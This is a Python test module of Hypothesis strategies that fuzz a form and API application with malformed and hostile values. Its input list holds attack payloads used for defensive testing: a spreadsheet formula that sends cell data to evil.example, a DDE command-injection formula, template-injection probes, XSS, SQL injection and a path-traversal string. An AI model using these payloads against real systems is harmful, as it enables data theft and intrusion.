"""Hostile inputs as Hypothesis strategies: the attacker's and the careless user's values."""
from hypothesis import strategies as st

NASTY = [
    "", " ", "NaN", "sNaN", "Infinity", "-inf", "1e30", "1e400", "3000000000", "-1", "0.005", "1_000", "٣",
    "9" * 5000, "9999-12-31", "0001-01-01", "2023-W10-1", "2023-02-30", "2023/03/01", "2023.3.1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1", "@SUM(1)", "\t=1",
    "标题\x01含\x0b控制字符\x00", "{{ 党组会议次数 }}", "{{ " + "(" * 100 + "年度" + ")" * 100 + " }}",
    "{{ " + "[" * 100 + " }}", "{% if a %}" * 300, "{{ 年度" + " | 余" * 200 + " }}",
    "{{ 年度 | 万元(" + "9" * 4301 + ") }}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{",
    "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd", "2023H3", "0001-01-01:9999-12-31",
    "长" * 20001, "\u202e\u200b\ufeff", "😀" * 10,
]

nasty_text = st.one_of(st.sampled_from(NASTY), st.text(max_size=40),
                       st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(max_size=10)))
form_value = st.one_of(nasty_text, st.integers().map(str), st.floats().map(str))

FIELDS = ["title", "period", "kind", "heading", "lead", "body", "version", "node_type", "parent_id", "owner_id",
          "direction", "comment", "category_id", "key", "name", "label", "unit", "formula", "types", "field",
          "basis", "group", "url", "token", "deadline", "note", "targets", "date", "count", "persons", "amount",
          "type", "external_id", "action", "self_approval", "current", "new", "confirm", "visitor", "arrival",
          "departure", "leader", "size", "purpose", "report_ids", "salutation", "signature", "date_text"]
form_data = st.dictionaries(st.sampled_from(FIELDS), form_value, max_size=8)

json_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(),
                        st.text(alphabet=st.characters(), max_size=20), st.sampled_from(NASTY))
json_value = st.recursive(json_scalar, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)), max_leaves=8)

api_record = st.fixed_dictionaries(
    {"external_id": st.one_of(nasty_text, st.integers(), st.just("F-1")),
     "category": st.sampled_from(["meeting", "proposal", "会议", "提案", "nope"]),
     "type": st.one_of(st.sampled_from(["党组会议", "主席会议", "proposal", "nope"]), json_value),
     "date": st.one_of(st.sampled_from(["2023-03-01", "9999-12-31", "2023-W10-1"]), json_value),
     "title": st.one_of(nasty_text, json_value)},
    optional={"count": json_value, "persons": json_value, "amount": json_value, "attrs": json_value,
              "note": json_value})
api_body = st.one_of(st.fixed_dictionaries({"records": st.lists(api_record, max_size=3)}), json_value)
